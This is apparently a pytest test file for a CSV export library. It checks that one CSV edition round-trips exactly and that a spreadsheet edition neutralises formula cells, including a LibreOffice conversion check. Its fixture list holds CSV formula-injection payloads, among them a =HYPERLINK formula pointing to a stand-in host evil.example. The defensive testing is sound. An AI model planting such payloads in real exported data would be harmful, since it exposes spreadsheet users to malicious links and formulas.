"""The two CSV editions: canonical CSV round-trips exactly; the spreadsheet edition is safe in a real spreadsheet."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nkru_data.csvio import BOM, FORMULA_PREFIXES, csv_bytes, neutralise, spreadsheet_csv_bytes

PAYLOADS = ['=HYPERLINK("http://evil.example/?x=1","klick")', "@SUM(A1:A2)", "+1+1", "-2+3", "\tTab vorne", "\rCR vorne"]
TEXTS = PAYLOADS + ["Größe über Pjöngjang, Südkorea", 'Zitat "mit" Anführungszeichen', "Zeile\numbrochen", "normal"]

cells = st.one_of(st.none(), st.text(min_size=1, max_size=30))
ints = st.one_of(st.none(), st.integers(min_value=-(2**63), max_value=2**63 - 1))


def _table(texts, numbers) -> pa.Table:
    return pa.table({"text": pa.array(texts, pa.string()), "n": pa.array(numbers, pa.int64())})


def _parse(data: bytes, encoding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline="")))


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(cells, ints), max_size=8))
def test_canonical_csv_round_trips_every_value(rows):
    table = _table([r[0] for r in rows], [r[1] for r in rows])
    data = csv_bytes(table)
    assert not data.startswith(BOM.encode())
    parsed = _parse(data, "utf-8")
    assert parsed[0] == ["text", "n"]
    assert [[t or None, int(n) if n else None] for t, n in parsed[1:]] == [list(r) for r in rows]
    assert csv_bytes(table) == data  # same table, same bytes


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(cells, ints), max_size=8))
def test_spreadsheet_edition_neutralises_text_only(rows):
    table = _table([r[0] for r in rows], [r[1] for r in rows])
    data = spreadsheet_csv_bytes(table)
    assert data.startswith(BOM.encode("utf-8"))
    parsed = _parse(data, "utf-8-sig")
    assert parsed[0] == ["text", "n"]
    for (text, number), (cell_t, cell_n) in zip(rows, parsed[1:]):
        assert cell_n == ("" if number is None else str(number))  # numbers untouched, even negative ones
        if text is None:
            assert cell_t == ""
        elif text.startswith(FORMULA_PREFIXES):
            assert cell_t == "'" + text
        else:
            assert cell_t == text
    if not any(r[0] and ("\n" in r[0] or "\r" in r[0]) for r in rows):
        assert data.count(b"\n") == data.count(b"\r\n") == len(rows) + 1  # CRLF line endings


@given(st.text(max_size=20))
def test_neutralise_is_reversible_and_only_touches_formula_starts(value):
    out = neutralise(value)
    if value.startswith(FORMULA_PREFIXES):
        assert out == "'" + value
    else:
        assert out == value


def _soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


def _xlsx_cells(path: Path) -> dict[str, tuple[str, str | None, bool]]:
    """``{cell ref: (type, shown text or value, has formula)}`` read straight from the xlsx XML."""
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(path) as zf:
        shared = []
        if "xl/sharedStrings.xml" in zf.namelist():
            root = ElementTree.fromstring(zf.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{{{ns['m']}}}t")) for si in root.findall("m:si", ns)]
        sheet = ElementTree.fromstring(zf.read("xl/worksheets/sheet1.xml"))
    out = {}
    for c in sheet.iter(f"{{{ns['m']}}}c"):
        kind = c.get("t", "n")
        v = c.find("m:v", ns)
        value = v.text if v is not None else None
        if kind == "s" and value is not None:
            value = shared[int(value)]
        out[c.get("r")] = (kind, value, c.find("m:f", ns) is not None)
    return out


@pytest.mark.slow
def test_libreoffice_opens_the_spreadsheet_edition_safely(tmp_path):
    """Convert both editions with LibreOffice (headless) and read the xlsx back.

    The canonical CSV, opened raw, really does get a HYPERLINK formula (so the
    check is able to fail); the spreadsheet edition gets none, keeps every
    payload as visible text, keeps umlauts, and keeps numbers numeric.
    """
    soffice = _soffice()
    if soffice is None:
        if os.environ.get("CI") == "true":
            pytest.fail("LibreOffice (soffice) is missing under CI=true: install libreoffice-calc-nogui")
        pytest.skip("LibreOffice (soffice) is not installed; under CI=true this test fails instead")
    numbers = [1, -5, 0, 3, 42, None, 7, 8, 9, 10]
    table = _table(TEXTS, numbers)
    (tmp_path / "raw.csv").write_bytes(csv_bytes(table))
    (tmp_path / "sheet.csv").write_bytes(spreadsheet_csv_bytes(table))
    profile = tmp_path / "lo-profile"
    result = subprocess.run(
        [soffice, "--headless", "--norestore", f"-env:UserInstallation={profile.as_uri()}",
         "--infilter=CSV:44,34,76", "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"),
         str(tmp_path / "raw.csv"), str(tmp_path / "sheet.csv")],
        capture_output=True, text=True, timeout=180,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    raw = _xlsx_cells(tmp_path / "out" / "raw.xlsx")
    assert raw["A2"][2], "control: LibreOffice should run =HYPERLINK from an unprotected CSV"

    sheet = _xlsx_cells(tmp_path / "out" / "sheet.xlsx")
    assert not any(has_formula for _k, _v, has_formula in sheet.values())
    assert sheet["A1"][1] == "text"  # the BOM is not part of the first header
    shown = {ref: value for ref, (_k, value, _f) in sheet.items() if ref.startswith("A")}
    for i, text in enumerate(TEXTS, start=2):
        expected = neutralise(text)
        got = shown[f"A{i}"]
        assert got.replace("\r\n", "\n").replace("\r", "\n") == expected.replace("\r\n", "\n").replace("\r", "\n"), (i, got)
        assert sheet[f"A{i}"][0] in ("s", "str", "inlineStr")
    assert "Größe über Pjöngjang, Südkorea" in shown.values()
    for i, n in enumerate(numbers, start=2):
        if n is None:
            assert f"B{i}" not in sheet or sheet[f"B{i}"][1] is None
        else:
            kind, value, _f = sheet[f"B{i}"]
            assert kind == "n" and float(value) == n
    assert re.fullmatch(r"'=HYPERLINK\(.*\)", shown["A2"])
